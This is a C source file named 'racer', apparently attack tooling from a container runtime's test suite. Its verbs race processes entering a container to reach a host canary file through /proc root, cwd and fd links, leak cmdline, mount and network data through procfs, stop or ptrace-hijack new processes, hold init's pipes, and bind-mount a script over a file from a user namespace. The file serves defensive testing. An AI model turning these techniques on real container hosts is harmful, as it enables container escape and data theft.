/* Attackers: what a payload tries while the runtime enters its container, or makes another one in its sight.
 * `racer VERB ARGS…` runs until it is killed and prints a line for each thing it got, each kind once.
 * Built static, so that it runs inside a bare rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* Pids are given out in order: whoever comes next has one of these numbers. */
enum { window = 4, said_limit = 32 };

static char said[said_limit][64];
static int sayings;

static void say(const char *format, ...) {
    char line[512];
    va_list arguments;
    va_start(arguments, format);
    vsnprintf(line, sizeof line, format, arguments);
    va_end(arguments);
    for (int i = 0; i < sayings; i++)
        if (!strncmp(said[i], line, sizeof *said - 1)) return;
    if (sayings == said_limit) return;
    strncpy(said[sayings++], line, sizeof *said - 1);
    puts(line);
    fflush(stdout);
}

static int proc(int pid, const char *name, int flags) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC);
}

static ssize_t text(int pid, const char *name, char *buffer, size_t size) {
    int fd = proc(pid, name, O_RDONLY);
    ssize_t length = 0, n;
    if (fd < 0) return -1;
    while ((size_t)length < size - 1 && (n = read(fd, buffer + length, size - 1 - length)) > 0) length += n;
    close(fd);
    buffer[length] = 0;
    return length;
}

/* Whether the file of the host can be read from this directory on, or from the root above it. */
static int reads(int directory, const char *canary) {
    static const char *const ups[] = {"", "../../../../../../../../../../../../"};
    for (size_t i = 0; i < sizeof ups / sizeof *ups; i++) {
        char path[4096], word[16] = "";
        snprintf(path, sizeof path, "%s%s", ups[i], canary + 1);
        int fd = openat(directory, path, O_RDWR | O_CLOEXEC);
        if (fd < 0) continue;
        ssize_t n = read(fd, word, sizeof word);
        close(fd);
        if (n >= 4 && !memcmp(word, "host", 4)) return 1;
    }
    return 0;
}

static void look(int pid, const char *canary) {
    int fd = proc(pid, "root", O_PATH | O_DIRECTORY);
    if (fd >= 0) {
        if (reads(fd, canary)) say("READ the host's file through root");
        close(fd);
    }
    fd = proc(pid, "cwd", O_PATH | O_DIRECTORY);
    if (fd >= 0) {
        if (reads(fd, canary)) say("READ the host's file through cwd");
        close(fd);
    }
    int list = proc(pid, "fd", O_RDONLY | O_DIRECTORY);
    if (list < 0) return;
    DIR *entries = fdopendir(list);
    if (!entries) {
        close(list);
        return;
    }
    for (struct dirent *e; (e = readdir(entries));) {
        struct stat s;
        char link[256] = "";
        if (*e->d_name == '.') continue;
        fd = openat(list, e->d_name, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        if (!fstat(fd, &s) && S_ISDIR(s.st_mode) && reads(fd, canary)) {
            if (readlinkat(list, e->d_name, link, sizeof link - 1) > 0) say("READ the host's file through fd %s", link);
        }
        close(fd);
    }
    closedir(entries);
}

/* Calls `visit` for each process that comes into sight, for as long as it is young. */
static _Noreturn void watch(void (*visit)(int, const char *), const char *subject) {
    int newest = getpid(), self = getpid();
    puts("watching");
    fflush(stdout);
    for (;;)
        for (int pid = newest - window; pid <= newest + window; pid++) {
            if (pid <= 1 || pid == self || (kill(pid, 0) < 0 && errno == ESRCH)) continue;
            if (pid > newest) newest = pid;
            visit(pid, subject);
        }
}

/* steal CANARY: stops each new process, and looks for a way to the host's file CANARY. */
static void stop_and_look(int pid, const char *canary) {
    static int last;
    if (pid == last) return look(pid, canary);
    last = pid;
    kill(pid, SIGSTOP);
    for (int i = 0; i < 3; i++) look(pid, canary);
    kill(pid, SIGCONT);
}

/* leak: reads what procfs shows of others to everybody. The variable WORD holds what the caller's command line says and
 * nobody else's. */
static void read_all(int pid, const char *word) {
    static char own[1 << 16], theirs[1 << 16];
    ssize_t n = text(pid, "cmdline", theirs, sizeof theirs);
    for (ssize_t i = 0; i < n; i++)
        if (!theirs[i]) theirs[i] = ' ';
    if (n > 0 && strstr(theirs, word)) say("LEAK cmdline %s", theirs);
    static const char *const names[] = {"mountinfo", "net/dev", "net/unix"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        if (text(getpid(), names[i], own, sizeof own) < 0) continue;
        if (text(pid, names[i], theirs, sizeof theirs) <= 0) continue;
        /* Counters change; how many interfaces, sockets and mounts there are does not. */
        int lines = 0;
        for (char *c = own; *c; c++) lines += *c == '\n';
        for (char *c = theirs; *c; c++) lines -= *c == '\n';
        if (lines < 0) say("LEAK %s with %d lines more than there are here", names[i], -lines);
    }
}

/* halt: stops each new process, once, and leaves it so. */
static void halt(int pid, const char *ignored) {
    static int last;
    (void)ignored;
    if (pid == last) return;
    last = pid;
    if (!kill(pid, SIGSTOP)) say("stopped");
}

/* trace: as halt, by ptrace(2). */
static void trace(int pid, const char *ignored) {
    static int last;
    (void)ignored;
    if (pid == last) return;
    last = pid;
    if (!ptrace(PTRACE_SEIZE, pid, 0, 0) && !ptrace(PTRACE_INTERRUPT, pid, 0, 0)) say("stopped");
}

/* keep: traces whoever comes, lets it run, and never takes its end: nobody else can reap it then. */
static void keep(int pid, const char *ignored) {
    (void)ignored;
    if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) say("kept");
}

/* hold: keeps all that process 1 has open, for as long as it can, and lets it go on if there is a gate that does. */
static _Noreturn void hold(void) {
    DIR *entries = opendir("/proc/1/fd");
    int held = 0;
    for (struct dirent *e; entries && (e = readdir(entries));) {
        struct stat s;
        int fd = *e->d_name == '.' ? -1 : openat(dirfd(entries), e->d_name, O_RDWR | O_NONBLOCK);
        if (fd >= 0 && !fstat(fd, &s) && S_ISFIFO(s.st_mode)) held++;
    }
    printf("holding %d\n", held);
    fflush(stdout);
    for (;;) pause();
}

/* stray FILE: a payload without rights that gets them over a tree of its own, where a script of its lies over FILE. */
static _Noreturn void stray(const char *file) {
    char map[64], note[256];
    int uid = getuid(), fd;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) goto failed;
    snprintf(map, sizeof map, "0 %d 1", uid);
    if ((fd = open("/proc/self/uid_map", O_WRONLY)) < 0 || write(fd, map, strlen(map)) < 0) goto failed;
    close(fd);
    if ((fd = open("/tmp/script", O_CREAT | O_WRONLY | O_TRUNC, 0755)) < 0) goto failed;
    snprintf(note, sizeof note, "#!/bin/sh\necho owned\ngrep CapEff /proc/self/status\n");
    if (write(fd, note, strlen(note)) < 0) goto failed;
    close(fd);
    if (mount("/tmp/script", file, 0, MS_BIND, 0)) goto failed;
    puts("strayed");
    fflush(stdout);
    for (;;) pause();
failed:
    perror("stray");
    exit(1);
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "", *subject = argc > 2 ? argv[2] : "";
    if (!strcmp(verb, "steal")) watch(stop_and_look, subject);
    if (!strcmp(verb, "look")) watch(look, subject);
    if (!strcmp(verb, "leak") && getenv("WORD")) watch(read_all, getenv("WORD"));
    if (!strcmp(verb, "halt")) watch(halt, subject);
    if (!strcmp(verb, "trace")) watch(trace, subject);
    if (!strcmp(verb, "keep")) watch(keep, subject);
    if (!strcmp(verb, "hold")) hold();
    if (!strcmp(verb, "stray") && argc > 2) stray(subject);
    fprintf(stderr, "racer: steal CANARY | look CANARY | leak | halt | trace | keep | hold | stray FILE\n");
    return 2;
}
